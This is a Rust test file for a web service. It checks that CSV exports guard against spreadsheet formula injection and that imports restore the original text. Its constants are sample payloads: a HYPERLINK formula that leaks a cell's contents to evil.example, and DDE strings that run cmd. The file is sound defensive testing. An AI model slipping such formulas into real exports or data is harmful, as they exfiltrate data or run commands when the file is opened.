//! The CSV files open safely in a spreadsheet and come back unchanged: text that a
//! spreadsheet would run as a formula is written as text (OWASP CSV injection), and an import
//! takes the guard off again.

use serde_json::json;
use soundings_tests::{TestApp, body, id_of};
use uuid::Uuid;

const LINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";
const TEAM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const TITLE: &str = "-2+3+cmd|' /C calc'!A0";

/// An organisation whose specialist (in a team named like a formula) holds a client whose
/// reference is a formula, with a job titled like one and an answered survey.
struct Service {
    app: TestApp,
    manager: String,
}

async fn service() -> Service {
    let app = TestApp::spawn().await;
    let org = app.create_org("Org A", "admin@a.example.org").await;
    let admin = app.login("admin@a.example.org").await.access_token;
    app.create_staff_direct(org, "manager@a.example.org", domain::Role::Manager)
        .await;
    let manager = app.login("manager@a.example.org").await.access_token;
    app.specialist_in_team(org, &admin, "sam@a.example.org", TEAM)
        .await;
    let sam = app.login("sam@a.example.org").await.access_token;
    let person = id_of(
        &app.create(
            "/api/participants",
            &sam,
            &body::participant("jobseeker", LINK),
        )
        .await,
    );
    let episode = id_of(
        &app.create(
            "/api/episodes",
            &sam,
            &body::with(
                body::episode(person, "2026-01-05", None),
                json!({"hours_before": 0}),
            ),
        )
        .await,
    );
    app.create(
        "/api/jobs",
        &sam,
        &body::with(
            body::job(episode, "2026-02-02", "new_job", true),
            json!({"title": TITLE, "hours_per_week": 16, "hourly_pay": 12.21}),
        ),
    )
    .await;
    let mut answer = body::satisfaction(
        person,
        "jobseeker_satisfaction",
        4,
        "2026-03-02T10:00:00Z",
        body::completion("self", "none", "staff_device"),
    );
    answer["episode_id"] = json!(episode);
    app.create("/api/responses", &sam, &answer).await;
    Service { app, manager }
}

async fn export(app: &TestApp, token: &str, path: &str) -> String {
    let res = app.get(path, Some(token)).await;
    assert_eq!(res.status(), 200);
    res.text().await.unwrap()
}

/// The file's rows as a spreadsheet reads them: the header's names to each cell.
fn rows(file: &str) -> Vec<Vec<(String, String)>> {
    let mut r = csv::Reader::from_reader(file.as_bytes());
    let headers: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    r.records()
        .map(|rec| {
            headers
                .iter()
                .cloned()
                .zip(rec.unwrap().iter().map(String::from))
                .collect()
        })
        .collect()
}

fn cell<'a>(row: &'a [(String, String)], column: &str) -> &'a str {
    &row.iter().find(|(c, _)| c == column).unwrap().1
}

/// Whether a spreadsheet could take the cell for a formula: it starts with one of OWASP's
/// characters and is not a plain number.
fn could_run(value: &str) -> bool {
    value.starts_with(['=', '+', '-', '@', '\t', '\r']) && value.parse::<f64>().is_err()
}

async fn import(app: &TestApp, token: &str, path: &str, file: &str) -> reqwest::Response {
    app.post_raw(path, Some(token), "text/csv", file.as_bytes().to_vec())
        .await
}

#[tokio::test]
async fn formula_text_in_the_exports_is_written_so_a_spreadsheet_shows_it_as_text() {
    let s = service().await;
    let episodes = export(&s.app, &s.manager, "/api/export/episodes.csv").await;
    let responses = export(&s.app, &s.manager, "/api/export/responses.csv").await;

    let episode_rows = rows(&episodes);
    let response_rows = rows(&responses);
    assert_eq!(
        cell(&episode_rows[0], "participant_reference"),
        format!("'{LINK}")
    );
    assert_eq!(cell(&episode_rows[0], "job_title"), format!("'{TITLE}"));
    assert_eq!(cell(&episode_rows[0], "job_hourly_pay"), "12.21");
    assert_eq!(
        cell(&response_rows[0], "participant_reference"),
        format!("'{LINK}")
    );
    assert_eq!(cell(&response_rows[0], "team"), format!("'{TEAM}"));
    for (column, value) in episode_rows.iter().chain(&response_rows).flatten() {
        assert!(!could_run(value), "{column}: {value:?}");
    }
}

#[tokio::test]
async fn an_export_with_formula_text_imports_into_another_organisation_as_it_was_typed() {
    let s = service().await;
    let episodes = export(&s.app, &s.manager, "/api/export/episodes.csv").await;
    let responses = export(&s.app, &s.manager, "/api/export/responses.csv").await;

    let other = TestApp::spawn().await;
    let org = other.create_org("Org B", "admin@b.example.org").await;
    let admin = other.login("admin@b.example.org").await.access_token;
    other
        .create_staff_direct(org, "sam@a.example.org", domain::Role::Specialist)
        .await;
    let res = import(&other, &admin, "/api/import/episodes", &episodes).await;
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    let res = import(&other, &admin, "/api/import/responses", &responses).await;
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());

    // The participant, the job and the team hold the text as typed, without the guard.
    let person: Uuid = rows(&episodes)[0]
        .iter()
        .find(|(c, _)| c == "participant_id")
        .map(|(_, v)| v.parse().unwrap())
        .unwrap();
    let stored = other
        .get(&format!("/api/participants/{person}"), Some(&admin))
        .await;
    let stored: serde_json::Value = stored.json().await.unwrap();
    assert_eq!(stored["reference"], LINK, "{stored}");
    let teams: serde_json::Value = other
        .get("/api/teams", Some(&admin))
        .await
        .json()
        .await
        .unwrap();
    assert!(
        teams.as_array().unwrap().iter().any(|t| t["name"] == TEAM),
        "{teams}"
    );
    // And the other organisation's export guards them again, exactly as the first did.
    let again = export(&other, &admin, "/api/export/episodes.csv").await;
    assert_eq!(
        cell(&rows(&again)[0], "participant_reference"),
        format!("'{LINK}")
    );
    assert_eq!(cell(&rows(&again)[0], "job_title"), format!("'{TITLE}"));
}

#[tokio::test]
async fn an_organisations_own_unchanged_export_imports_back_as_unchanged() {
    let s = service().await;
    let admin = s.app.login("admin@a.example.org").await.access_token;
    let episodes = export(&s.app, &s.manager, "/api/export/episodes.csv").await;
    let responses = export(&s.app, &s.manager, "/api/export/responses.csv").await;
    let episodes_before = s.app.count_rows("episode").await;

    for (path, file, rows) in [
        ("/api/import/episodes", &episodes, 1),
        ("/api/import/responses", &responses, 1),
    ] {
        let res = import(&s.app, &admin, path, file).await;
        let status = res.status();
        let text = res.text().await.unwrap();
        assert_eq!(status, 200, "{path}: {text}");
        let report: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(report, json!({"imported": 0, "unchanged": rows}), "{path}");
    }
    assert_eq!(s.app.count_rows("episode").await, episodes_before);
    assert_eq!(s.app.count_rows("job").await, 1);
    assert_eq!(s.app.count_rows("response").await, 1);
}

#[tokio::test]
async fn an_episodes_file_of_several_hundred_kilobytes_imports() {
    let app = TestApp::spawn().await;
    let org = app.create_org("Org A", "admin@a.example.org").await;
    let admin = app.login("admin@a.example.org").await.access_token;
    app.create_staff_direct(org, "sam@a.example.org", domain::Role::Specialist)
        .await;
    let mut file = String::from(
        "episode_id,participant_id,participant_reference,specialist_email,programme,referred_on,started_on,profile_started_on,job_started_on,ended_on,employer_id,employer_reference\n",
    );
    let mut n = 0;
    while file.len() <= 325 * 1024 {
        n += 1;
        file.push_str(&format!(
            "{},{},JS-{n:05},sam@a.example.org,seqf,2026-01-02,2026-01-05,2026-01-19,,,,\n",
            Uuid::new_v4(),
            Uuid::new_v4()
        ));
    }
    let res = import(&app, &admin, "/api/import/episodes", &file).await;
    let status = res.status();
    let text = res.text().await.unwrap();
    assert_eq!(status, 200, "{text}");
    let report: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(report["imported"], n);
    assert_eq!(app.count_rows("episode").await, n);
}

#[tokio::test]
async fn an_import_that_is_not_csv_is_refused_as_the_wrong_media_type() {
    let app = TestApp::spawn().await;
    app.create_org("Org A", "admin@a.example.org").await;
    let admin = app.login("admin@a.example.org").await.access_token;
    for path in ["/api/import/episodes", "/api/import/responses"] {
        let res = app
            .post_raw(
                path,
                Some(&admin),
                "application/json",
                br#"{"rows": []}"#.to_vec(),
            )
            .await;
        assert_eq!(res.status(), 415, "{path}");
        let body = soundings_tests::error_body(res).await;
        assert_eq!(body["field"], "content_type", "{path}");
    }
}
